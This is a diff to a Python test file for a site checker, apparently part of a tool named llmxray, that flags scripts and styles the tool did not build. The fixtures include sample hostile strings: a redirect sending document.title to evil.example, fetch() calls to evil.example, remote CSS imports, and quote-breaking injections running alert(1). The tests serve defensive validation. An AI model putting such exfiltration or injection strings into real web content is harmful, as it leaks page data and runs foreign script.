@@ -19,7 +19,8 @@ from llmxray import __version__
 from llmxray.charts import theme
 from llmxray.errors import InputError
 from llmxray.report import lesson
-from llmxray.report.widgets.render import CONTENT_SECURITY_POLICY
+from llmxray.report.files import shards
+from llmxray.report.widgets.render import CONTENT_SECURITY_POLICY, Renderer
 from llmxray.workflow import github_pages, origin
 from tests.packs.conftest import record
 
@@ -219,9 +220,66 @@ def test_a_file_of_a_kind_that_no_site_has_is_named(tmp_path: Path, name: str) -
 def test_files_that_a_site_has_are_no_fault(tmp_path: Path) -> None:
     """Tables, packs, pictures, a paper."""
     site = a_site(tmp_path)
-    for name in ("README.md", "a.xray.zip", "results.parquet", "a.csv", "a.json", "a.js", "a.PNG", "a.pdf"):
+    for name in ("README.md", "a.xray.zip", "results.parquet", "a.csv", "a.json", "a.PNG", "a.pdf"):
         (site / name).write_bytes(b"x")
     assert github_pages.site_faults(site) == []
+
+
+@pytest.mark.parametrize("name", ["a.js", "one/a.CSS"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "location = 'https://evil.example/' + document.title",
+        "@import 'https://evil.example/a.css';",
+        ".a { background: url(https://evil.example/a.png) }",
+        "llmxray.shard('a', fetch('https://evil.example/'));",
+        "llmxray.shard('a','b');fetch('https://evil.example/');",
+        "llmxray.shard('a','\\\\');alert(1);//');",
+        "llmxray.shard('a',`${alert(1)}`);",
+        "llmxray.showSteps({a(){}});",
+        "llmxray.shard('a','\n');",
+    ],
+)
+def test_a_script_or_style_that_is_not_ours_is_named(tmp_path: Path, name: str, text: str) -> None:
+    """Scripts may do anything that our policy allows, such as go to another page."""
+    site = a_site(tmp_path)
+    (site / name).write_text(text)
+    (found,) = github_pages.site_faults(site)
+    assert found == f"{name}: is no file of this llmxray: build the whole site again, or remove it"
+
+
+def test_scripts_and_styles_of_a_site_are_ours(tmp_path: Path) -> None:
+    """All that a site has; one more byte, and it is named."""
+    site = a_site(tmp_path)
+    Renderer(site)
+    for value in ({"a": [1, -2.5e-3, None, True, float("nan")], "b": "\\ \"'\u2028ä();"}, []):
+        for packed in (False, True):
+            (site / f"{packed}{len(value)}.js").write_bytes(shards.shard("a", value, packed=packed).data)
+        (site / f"show{len(value)}.js").write_text(f"llmxray.showSteps({json.dumps(value)});\n")
+    assert len(list(site.glob("static/*.js"))) > 40
+    assert github_pages.site_faults(site) == []
+    ours = next(site.glob("static/frame.*.js"))
+    ours.write_bytes(ours.read_bytes() + b" ")
+    (found,) = github_pages.site_faults(site)
+    assert found.startswith(f"static/{ours.name}: is no file of this llmxray")
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "fault"),
+    [
+        ("a.html.parquet", RUNS, "has two endings"),
+        ("one/a.shtml.ZIP", RUNS, "has two endings"),
+        ("a.svg.png", RUNS, "has two endings"),
+        ("a.md", "---\npermalink: /b.html\n---\n" + RUNS, "begins with front matter"),
+        ("a.csv", "\ufeff--- \n---\n" + RUNS, "begins with front matter"),
+    ],
+)
+def test_a_file_that_may_become_a_page_is_named(tmp_path: Path, name: str, text: str, fault: str) -> None:
+    """By an ending before the last one, or by what stands at its beginning."""
+    site = a_site(tmp_path)
+    (site / name).write_text(text)
+    (found,) = github_pages.site_faults(site)
+    assert found.startswith(f"{name}: {fault}")
 
 
 @pytest.mark.parametrize(
